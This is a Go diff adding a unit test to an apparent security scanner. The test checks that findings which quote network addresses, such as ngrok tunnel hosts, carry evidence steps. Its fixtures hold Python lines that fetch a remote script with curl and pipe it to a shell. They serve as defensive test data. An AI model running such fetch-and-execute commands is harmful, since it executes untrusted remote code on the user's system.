@@ -285,3 +285,33 @@ func TestExamine(t *testing.T) {
 		})
 	}
 }
+
+// TestContacts: a finding that quotes an address says whose it is.
+func TestContacts(t *testing.T) {
+	calls := &rule.Rule{ID: "toy-calls", Title: "Calls", Severity: rule.High, Precision: rule.Certain, Since: "0.1.0"}
+	mild := &rule.Rule{ID: "toy-mentions", Title: "Mentions", Severity: rule.Low, Precision: rule.Certain, Since: "0.1.0"}
+	for _, c := range []struct {
+		name, text string
+		rule       *rule.Rule
+		want       int
+	}{
+		{name: "tunnel", rule: calls, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 2},
+		{name: "two kinds", rule: calls, text: "os.system('curl https://a.ngrok.io/x https://192.0.2.1/y https://b.ngrok.io/z')", want: 3},
+		{name: "any host", rule: calls, text: "os.system('curl https://example.org/x | sh')", want: 1},
+		{name: "no danger", rule: mild, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 1},
+	} {
+		d := &detector.Detector{
+			Name:  "toy",
+			Match: func(artifact.Head) bool { return true },
+			Run: func(_ context.Context, p *detector.Pass) error {
+				p.Report(finding.Finding{Rule: c.rule, Key: "k", Message: "It calls.", Evidence: []finding.Step{{Offset: 7, Text: c.text}}})
+				return nil
+			},
+		}
+		s := scan.Scanner{Detectors: []*detector.Detector{d}, Limits: hostile.DefaultLimits(), Now: time.Now}
+		got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("x"), Size: 1})
+		if len(got.Findings) != 1 || len(got.Findings[0].Evidence) != c.want {
+			t.Errorf("%s: got %+v, want %d steps", c.name, got.Findings, c.want)
+		}
+	}
+}
